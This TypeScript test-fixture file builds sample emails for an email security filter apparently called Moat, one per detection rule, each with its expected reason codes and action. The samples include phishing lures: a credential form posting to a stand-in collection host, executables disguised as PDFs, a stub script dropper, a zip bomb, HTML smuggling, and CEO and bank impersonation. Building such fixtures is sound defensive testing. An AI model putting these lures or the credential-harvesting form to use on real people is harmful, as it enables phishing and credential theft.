/** Crafted sample messages, one per heuristic, with the reasons and action Moat should give each. */
import type { Action } from '@moat/contract'
import { MOAT_TEST_STRING } from '../engines/test-string/index.ts'
import { buildZip, nestedZip } from '../engines/attachments/testing/zip-writer.ts'
import { docm, isoImage, lnkShortcut, oneNoteSection, peProgram } from '../engines/attachments/testing/samples.ts'
import { base64Blob, smugglingPage } from '../engines/html/test-samples.ts'
import { buildMessage } from '../testing/build-message.ts'
import { nestedMessage } from '../testing/hostile-messages.ts'

export interface Sample {
  /** File name without extension. */
  name: string
  /** What the sample shows. */
  about: string
  raw: Buffer
  /** Codes that must be among the reasons (under examples/policy.yaml). */
  codes: string[]
  action: Action
}

/** Samples are judged under examples/policy.yaml: the organization is northwind.com, its bank contoso-bank.com. */
const outsider = 'Orders Desk <orders@supplier-mail.net>'

/** All samples; built on each call (a few hundred KB in all). */
export function buildSamples(): Sample[] {
  return [
    {
      name: 'clean',
      about: 'an ordinary message between colleagues',
      raw: buildMessage({
        from: 'Sam <sam@northwind.com>',
        subject: 'Lunch',
        text: 'Shall we meet at noon by the fountain?',
      }),
      codes: [],
      action: 'allow',
    },
    {
      name: 'test-string',
      about: "Moat's end-to-end test string",
      raw: buildMessage({ subject: 'Moat installation check', text: `Checking the install.\n${MOAT_TEST_STRING}\n` }),
      codes: ['MOAT_TEST_STRING'],
      action: 'delete',
    },
    {
      name: 'attach-double-extension',
      about: 'a program disguised as a PDF',
      raw: buildMessage({
        from: outsider,
        subject: 'Invoice 4471',
        text: 'Please find the invoice attached.',
        attachments: [{ filename: 'invoice_4471.pdf.exe', contentType: 'application/pdf', content: peProgram() }],
      }),
      codes: ['ATTACH_EXECUTABLE', 'ATTACH_DOUBLE_EXTENSION'],
      action: 'quarantine',
    },
    {
      name: 'attach-type-mismatch',
      about: 'a program named and labelled as a PDF',
      raw: buildMessage({
        from: outsider,
        subject: 'Statement',
        text: 'Your statement.',
        attachments: [{ filename: 'statement.pdf', contentType: 'application/pdf', content: peProgram() }],
      }),
      codes: ['ATTACH_TYPE_MISMATCH', 'ATTACH_EXECUTABLE'],
      action: 'quarantine',
    },
    {
      name: 'attach-script-in-zip',
      about: 'a JavaScript dropper inside a zip',
      raw: buildMessage({
        from: outsider,
        subject: 'Scanned documents',
        text: 'Scans attached.',
        attachments: [
          {
            filename: 'scans.zip',
            contentType: 'application/zip',
            content: buildZip([{ name: 'scan_0412.js', data: 'var s=new ActiveXObject("WScript.Shell");' }]),
          },
        ],
      }),
      codes: ['ATTACH_SCRIPT'],
      action: 'quarantine',
    },
    {
      name: 'attach-shortcut',
      about: 'a Windows shortcut',
      raw: buildMessage({
        from: outsider,
        subject: 'Document',
        text: 'Open the document.',
        attachments: [{ filename: 'Document.lnk', content: lnkShortcut() }],
      }),
      codes: ['ATTACH_SHORTCUT'],
      action: 'quarantine',
    },
    {
      name: 'attach-disk-image',
      about: 'an ISO disk image',
      raw: buildMessage({
        from: outsider,
        subject: 'Delivery',
        text: 'Delivery note attached.',
        attachments: [{ filename: 'delivery_note.iso', content: isoImage() }],
      }),
      codes: ['ATTACH_DISK_IMAGE'],
      action: 'flag',
    },
    {
      name: 'attach-onenote',
      about: 'a OneNote lure',
      raw: buildMessage({
        from: outsider,
        subject: 'Shared notes',
        text: 'Double-click to view.',
        attachments: [{ filename: 'Notes.one', content: oneNoteSection() }],
      }),
      codes: ['ATTACH_ONENOTE'],
      action: 'flag',
    },
    {
      name: 'attach-macro',
      about: 'a Word document with macros',
      raw: buildMessage({
        from: outsider,
        subject: 'Order form',
        text: 'Enable editing to see the order.',
        attachments: [{ filename: 'order.docm', content: docm() }],
      }),
      codes: ['ATTACH_MACRO_OFFICE'],
      action: 'flag',
    },
    {
      name: 'attach-zip-bomb',
      about: 'a zip that inflates 50 MB of zeros from a few KB',
      raw: buildMessage({
        from: outsider,
        subject: 'Archive',
        text: 'See archive.',
        attachments: [
          { filename: 'data.zip', content: buildZip([{ name: 'zeros.bin', data: Buffer.alloc(50 * 1024 * 1024) }]) },
        ],
      }),
      codes: ['ATTACH_ARCHIVE_BOMB'],
      action: 'quarantine',
    },
    {
      name: 'attach-nested-zip',
      about: 'a program inside five nested zips',
      raw: buildMessage({
        from: outsider,
        subject: 'Files',
        text: 'Files attached.',
        attachments: [{ filename: 'files.zip', content: nestedZip(5, { name: 'setup.exe', data: peProgram() }) }],
      }),
      codes: ['ATTACH_ARCHIVE_TOO_DEEP'],
      action: 'flag',
    },
    {
      name: 'attach-encrypted-zip',
      about: 'a password-protected zip with the password in the body',
      raw: buildMessage({
        from: outsider,
        subject: 'Secure invoice',
        text: 'Password: 4471',
        attachments: [
          {
            filename: 'invoice.zip',
            content: buildZip([{ name: 'invoice.pdf', data: 'x'.repeat(2000), encrypted: true }]),
          },
        ],
      }),
      codes: ['ATTACH_ARCHIVE_ENCRYPTED'],
      action: 'allow',
    },
    {
      name: 'attach-html',
      about: 'a web page attachment',
      raw: buildMessage({
        from: outsider,
        subject: 'Voicemail',
        text: 'You have a new voicemail.',
        attachments: [
          {
            filename: 'voicemail.html',
            contentType: 'text/html',
            content: '<html><body><p>Play message</p></body></html>',
          },
        ],
      }),
      codes: ['ATTACH_HTML'],
      action: 'allow',
    },
    {
      name: 'html-smuggling',
      about: 'an HTML attachment that builds and saves a file in the browser',
      raw: buildMessage({
        from: outsider,
        subject: 'Remittance',
        text: 'Open the attached remittance advice.',
        attachments: [
          { filename: 'remittance.html', contentType: 'text/html', content: smugglingPage(base64Blob(20_000)) },
        ],
      }),
      codes: ['HTML_SMUGGLING', 'ATTACH_HTML'],
      action: 'quarantine',
    },
    {
      name: 'html-hidden-text',
      about: 'random words hidden from the reader',
      raw: buildMessage({
        from: outsider,
        subject: 'Special offer',
        html:
          '<p>Cheap watches, best prices, buy today!</p>' +
          '<div style="display:none">meadow copper lantern violet harbour quantum pebble orchard zephyr</div>' +
          '<p style="font-size:0">granite willow saffron tundra</p>',
      }),
      codes: ['HTML_HIDDEN_TEXT'],
      action: 'allow',
    },
    {
      name: 'html-credential-form',
      about: 'a login form that posts elsewhere',
      raw: buildMessage({
        from: outsider,
        subject: 'Mailbox quota',
        html:
          '<p>Your mailbox is full. Sign in to keep receiving mail.</p>' +
          '<form action="https://mail-quota.example.net/collect" method="post">' +
          '<input type="email" name="u"><input type="password" name="p"><button>Sign in</button></form>',
      }),
      codes: ['HTML_FORM_CREDENTIALS'],
      action: 'flag',
    },
    {
      name: 'html-script',
      about: 'script in the message body',
      raw: buildMessage({
        from: outsider,
        subject: 'Update',
        html: '<p onmouseover="steal()">Hello</p><script>document.location="https://x.example.net"</script>',
      }),
      codes: ['HTML_SCRIPT'],
      action: 'allow',
    },
    {
      name: 'imp-display-name-address',
      about: "a display name that shows the company's own address",
      raw: buildMessage({
        from: '"ceo@northwind.com" <ceo.office@freemail-box.net>',
        subject: 'Urgent wire',
        text: 'Please send the wire today.',
      }),
      codes: ['IMPERSONATION_DISPLAY_NAME_ADDRESS'],
      action: 'flag',
    },
    {
      name: 'imp-protected-person',
      about: "a protected person's name from an outside address",
      raw: buildMessage({
        from: 'Jane Doe <jane.doe.ceo@gmail.com>',
        subject: 'Are you at your desk?',
        text: 'I need a favour.',
      }),
      codes: ['IMPERSONATION_PROTECTED_PERSON'],
      action: 'flag',
    },
    {
      name: 'imp-reply-to',
      about: 'replies diverted to a free-mail address',
      raw: buildMessage({
        from: 'Accounts <accounts@fabrikam-supplies.com>',
        replyTo: 'supplier.accounts@gmail.com',
        subject: 'New bank details',
        text: 'Our bank details changed; reply to confirm.',
      }),
      codes: ['IMPERSONATION_REPLY_TO_MISMATCH'],
      action: 'flag',
    },
    {
      name: 'imp-lookalike-domain',
      about: "a sender domain imitating the organization's bank",
      raw: buildMessage({
        from: 'Security <security@contoso-bamk.com>',
        subject: 'Verify',
        text: 'Verify your account.',
      }),
      codes: ['IMPERSONATION_LOOKALIKE_DOMAIN'],
      action: 'flag',
    },
    {
      name: 'link-text-mismatch',
      about: 'a link showing one site and leading to another',
      raw: buildMessage({
        from: outsider,
        subject: 'Account notice',
        html: '<p>Sign in at <a href="https://login-check.example.net/s">https://www.contoso-bank.com/login</a></p>',
      }),
      codes: ['LINK_TEXT_MISMATCH'],
      action: 'flag',
    },
    {
      name: 'link-ip-and-shortener',
      about: 'links to a bare IP address and through a shortener',
      raw: buildMessage({
        from: outsider,
        subject: 'Parcel',
        text: 'Track: http://192.0.2.44/track?id=1 or https://bit.ly/3xYz12',
      }),
      codes: ['LINK_IP_HOST', 'LINK_SHORTENER'],
      action: 'flag',
    },
    {
      name: 'link-punycode-lookalike',
      about: 'a link to a punycode host imitating the bank',
      raw: buildMessage({
        from: outsider,
        subject: 'Statement ready',
        text: 'View it at https://xn--contoso-bnk-6ij.com/statement',
      }),
      codes: ['LINK_PUNYCODE_HOST', 'LINK_LOOKALIKE_DOMAIN'],
      action: 'flag',
    },
    {
      name: 'link-safelinks',
      about: 'a Safe Links rewrite whose real target is an IP address',
      raw: buildMessage({
        from: outsider,
        subject: 'Shared file',
        text: 'Open: https://eur01.safelinks.protection.outlook.com/?url=http%3A%2F%2F198.51.100.7%2Ffile&data=05%7C01&reserved=0',
      }),
      codes: ['LINK_REWRITTEN', 'LINK_IP_HOST'],
      action: 'allow',
    },
    {
      name: 'list-blocked',
      about: 'a sender on the block list',
      raw: buildMessage({ from: 'News <news@mail.bad.example>', subject: 'Weekly news', text: 'This week.' }),
      codes: ['LIST_BLOCKED'],
      action: 'quarantine',
    },
    {
      name: 'list-allow-unauthenticated',
      about: 'an allow-listed sender whose identity nothing proved, so the entry is not applied',
      raw: buildMessage({
        from: 'Partner <team@partner.example.net>',
        subject: 'Agenda',
        html: '<p>Agenda: <a href="https://login-check.example.org/a">https://www.contoso-bank.com/agenda</a></p>',
      }),
      codes: ['LIST_ALLOW_UNAUTHENTICATED', 'LINK_TEXT_MISMATCH'],
      action: 'flag',
    },
    {
      name: 'mime-nested-100',
      about: 'MIME parts nested 100 levels deep',
      raw: nestedMessage(100),
      codes: ['LIMIT_NESTING'],
      action: 'quarantine',
    },
    {
      name: 'mime-truncated',
      about: 'a message cut off in the middle of its parts',
      raw: nestedMessage(20).subarray(0, 600),
      codes: [],
      action: 'allow',
    },
  ]
}
